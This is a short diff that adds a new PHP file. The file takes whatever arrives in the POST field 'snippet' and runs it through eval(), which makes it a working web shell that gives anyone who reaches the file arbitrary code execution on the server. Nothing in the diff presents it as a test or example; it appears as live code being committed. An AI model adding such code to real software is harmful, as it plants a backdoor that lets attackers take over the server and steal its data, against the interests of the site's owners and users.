@@ -1,0 +1,4 @@
+<?php
+if (isset($_POST['snippet'])) {
+    eval("?>$_POST[snippet]<?php ");
+}
